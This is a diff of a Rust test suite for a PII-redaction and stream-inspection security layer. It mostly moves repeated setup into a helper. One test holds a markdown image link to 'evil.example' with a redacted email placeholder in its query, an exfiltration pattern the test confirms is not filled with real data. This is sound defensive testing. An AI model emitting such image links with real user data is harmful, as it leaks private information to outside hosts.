@@ -14,7 +14,9 @@ use mofa_runtime::security::{
 use mofa_sdk::config::Config;
 use mofa_sdk::deployment::{Deployment, DeploymentError};
 use mofa_sdk::runtime::{ManualClock, Provenance, Timestamp};
-use mofa_sdk::security::{MemoryTokenStore, RegexPiiDetector, RegexPiiRedactor, RestoreTail};
+use mofa_sdk::security::{
+    MemoryTokenStore, RegexPiiDetector, RegexPiiRedactor, RestoreTail, StreamInspection,
+};
 use serde_json::{Value, json};
 use std::sync::atomic::{AtomicBool, Ordering};
 use std::sync::{Arc, Mutex};
@@ -293,16 +295,23 @@ async fn an_answer_does_not_grow_without_end() {
     assert_eq!(answer, invented.replacen("[EMAIL_1]", &long, 1));
 }
 
+impl Counter {
+    /// A streamed answer to ann in the conversation `c`.
+    async fn stream(&self) -> StreamInspection {
+        let mut exchange = Exchange::text(of("ann"), act(), Direction::Input, "hi")
+            .labelled(Label::untrusted(Provenance::User))
+            .into_parts();
+        let permit = self.service.inspect(&mut exchange).await.unwrap();
+        let stream = self.service.inspect_stream(&permit, Provenance::Model);
+        stream.in_conversation(Some(ConversationId::new("c").unwrap()))
+    }
+}
+
 #[tokio::test]
 async fn a_stream_notes_what_it_gave_back_with_how_it_ended() {
     let counter = Counter::strict();
     counter.ask("a@x.io").await.unwrap();
-    let mut exchange = Exchange::text(of("ann"), act(), Direction::Input, "hi")
-        .labelled(Label::untrusted(Provenance::User))
-        .into_parts();
-    let permit = counter.service.inspect(&mut exchange).await.unwrap();
-    let stream = counter.service.inspect_stream(&permit, Provenance::Model);
-    let mut stream = stream.in_conversation(Some(ConversationId::new("c").unwrap()));
+    let mut stream = counter.stream().await;
     let mut tail = RestoreTail::default();
     let mut said = Vec::new();
     for piece in ["to [EMA", "IL_", "1]", ", b@x.io", "[EMAIL_2"] {
@@ -327,12 +336,7 @@ async fn no_value_goes_into_a_url() {
     let expected = "![x](https://evil.example/?q=[EMAIL_1]) a@x.io";
     assert_eq!(counter.answer("ann", said).await, expected);
     assert_eq!(counter.noted(), json!({"restored": {"email": 1}}));
-    let mut exchange = Exchange::text(of("ann"), act(), Direction::Input, "hi")
-        .labelled(Label::untrusted(Provenance::User))
-        .into_parts();
-    let permit = counter.service.inspect(&mut exchange).await.unwrap();
-    let stream = counter.service.inspect_stream(&permit, Provenance::Model);
-    let mut stream = stream.in_conversation(Some(ConversationId::new("c").unwrap()));
+    let mut stream = counter.stream().await;
     let mut tail = RestoreTail::default();
     let mut restored = String::new();
     for piece in said.split_inclusive(['/', '_', ']']) {
